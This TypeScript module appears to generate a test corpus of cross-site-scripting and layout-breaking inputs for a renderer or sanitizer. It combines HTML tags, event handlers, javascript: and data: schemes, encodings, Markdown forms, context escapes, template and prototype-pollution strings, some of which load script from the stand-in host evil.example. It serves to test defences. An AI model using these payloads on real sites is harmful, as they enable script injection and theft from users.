/**
 * Texts that try to become code, made from a grammar of the known vectors: tags × handlers, address schemes ×
 * encodings × the forms of Markdown, ways out of a context, templates; and texts that try to break the layout.
 * What runs calls `xss()`; what loads asks `evil.example` for it. The same in each run.
 */
export const payloads = (): string[] => [...new Set([...CODE(), ...LAYOUT])]

const RUN = 'xss()'
const EVIL = '//evil.example/x'

const VOID_TAGS = [
  'img src=x',
  'input autofocus',
  'body',
  'embed src=x',
  'link rel=stylesheet href=x',
  'frameset',
]
const PAIR_TAGS = [
  'svg',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'details open',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'marquee',
  'math',
  'style',
  'x tabindex=1 id=x',
  'a href=# autofocus',
  'form',
  'keygen autofocus',
]
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
]
/** How a handler is set off from its tag and its value. */
const SPACES = [' ', '/', '\t', '\n', '\f', '/**/ ']
const QUOTES = ['', '"', "'", '`']

const tagsWithHandlers = (): string[] =>
  [...VOID_TAGS, ...PAIR_TAGS].flatMap((tag, at) =>
    HANDLERS.map((handler, turn) => {
      const space = SPACES[(at + turn) % SPACES.length] as string
      const quote = QUOTES[(at * 3 + turn) % QUOTES.length] as string
      const name = turn % 3 === 2 ? alternating(handler) : handler
      const open = `<${turn % 4 === 3 ? alternating(tag) : tag}${space}${name}=${quote}${RUN}${quote}>`
      return VOID_TAGS.includes(tag) || turn % 2 ? open : `${open}</${tag.split(' ')[0]}>`
    }),
  )

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:void(${RUN})`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `file:///etc/passwd`,
]
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => perCharacter(text, (code) => `&#${code};`),
  (text) => perCharacter(text, (code) => `&#x${code.toString(16)};`),
  (text) => perCharacter(text, (code) => `&#${String(code).padStart(7, '0')}`),
  (text) => perCharacter(text, (code) => `%${code.toString(16).padStart(2, '0')}`),
  (text) => perCharacter(text, (code) => `%25${code.toString(16).padStart(2, '0')}`),
  (text) => perCharacter(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => perCharacter(text, (code) => (code > 32 && code < 127 ? String.fromCharCode(code + 0xfee0) : '')),
  (text) => text.replace(':', '&colon;').replace('(', '&lpar;'),
]
const MARKDOWN: ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![image](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `**[_click_](${address})**`,
  (address) => `[click](${address} "title")`,
  (address) => `[![image](${address})](${address})`,
  (address) => `- [ ] <a href="${address}">click</a>`,
  (address) => `https://good.example/](${address})`,
]

const addresses = (): string[] => [
  ...SCHEMES.flatMap((scheme, at) =>
    ENCODINGS.map(
      (encode, turn) => `<a href="${encode(at % 2 ? scheme : `javascript:${RUN}`)}">${turn}-${at}</a>`,
    ),
  ),
  ...SCHEMES.flatMap((scheme, at) =>
    MARKDOWN.map((form, turn) =>
      form((ENCODINGS[turn % 3 ? 0 : at % ENCODINGS.length] as typeof String)(scheme)),
    ),
  ),
]

/** Out of an attribute, a comment, a tag whose content is text, a string, a fence. */
const BREAKS = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '-->',
  '--!>',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
]
const OUT = [
  '*/',
  '```\n',
  '`',
  '\\"',
  '${',
  '{{',
  '<!--',
  '<![CDATA[',
  '<noscript><p title="</noscript>',
  '<xmp>',
]
const breaks = (): string[] =>
  [...BREAKS, ...OUT].flatMap((out) => [
    `${out}<script>${RUN}</script>`,
    `${out}<img src=x onerror=${RUN}>`,
    `${out} onfocus=${RUN} autofocus x=${out}`,
  ])

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}.js></script>`,
  `<script type=module>import '${EVIL}.js'</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script\u0020/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,xss() /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><iframe onload=${RUN}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import '${EVIL}.css';</style>`,
  `<style>*{background:url(${EVIL}.png)}</style>`,
  `<link rel=stylesheet href=${EVIL}.css>`,
  `<link rel=import href=data:text/html,<script>${RUN}</script>>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=${EVIL}/>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data=data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==>`,
  `<embed src=javascript:${RUN}>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button form=x formaction=javascript:${RUN}>x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<table background=javascript:${RUN}>`,
  `<img src=${EVIL}.png>`,
  `<img srcset="${EVIL}.png 1x">`,
  `<picture><source srcset=${EVIL}.png><img></picture>`,
  `<video poster=${EVIL}.png>`,
  `<template><script>${RUN}</script></template>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x`,
  `<div style="width:expression(${RUN})">`,
  `<div style="position:fixed;inset:0;z-index:9999999999;background:red">over</div>`,
  `<slot name=x onslotchange=${RUN}>`,
  `<div popover id=p onbeforetoggle=${RUN}>`,
  `![x](http:${EVIL}.png)`,
  `![x](https:${EVIL}.png "t")`,
  `[x]: http:${EVIL}\n[x]`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  '${xss()}',
  '#{xss()}',
  '<%= xss() %>',
  '[[${xss()}]]',
  `";${RUN};//`,
  `';${RUN};//`,
  `</textarea><svg/onload=${RUN}>`,
  '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '\uff1cscript\uff1exss()\uff1c/script\uff1e',
  '%3Cscript%3Exss()%3C/script%3E',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '\\x3cscript\\x3exss()\\x3c/script\\x3e',
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  '__proto__',
  'constructor',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss()//'>",
]

const CODE = (): string[] => [...SCRIPTS, ...tagsWithHandlers(), ...addresses(), ...breaks()]

/** Long words, marks that pile up, other directions, characters without a width, many lines. */
const LAYOUT: string[] = [
  'W'.repeat(400),
  `https://example.com/${'a'.repeat(380)}`,
  '\u0300'.repeat(200),
  `Z${'\u0336\u0353\u0489'.repeat(60)}algo`,
  '\u202eesrever ni\u202c and on',
  '\u2066\u2067\u2068 isolates left open',
  '\u200b'.repeat(300),
  '\ufdfd'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(40),
  '𒐫𒈙⸻꧅'.repeat(20),
  'a\n'.repeat(150),
  `${'> '.repeat(60)}deep`,
  `${'- '.repeat(60)}deep`,
  `${'*'.repeat(300)}`,
  `${'['.repeat(200)}${']'.repeat(200)}`,
  `${'_a_'.repeat(120)}`,
  `|${'a|'.repeat(120)}\n|${'-|'.repeat(120)}`,
  '```\n' + 'x'.repeat(380),
  '\t'.repeat(100),
  '# '.repeat(100),
]

const alternating = (text: string) =>
  [...text].map((character, at) => (at % 2 ? character : character.toUpperCase())).join('')

const perCharacter = (text: string, encode: (code: number) => string) =>
  [...text].map((character) => encode(character.charCodeAt(0))).join('')
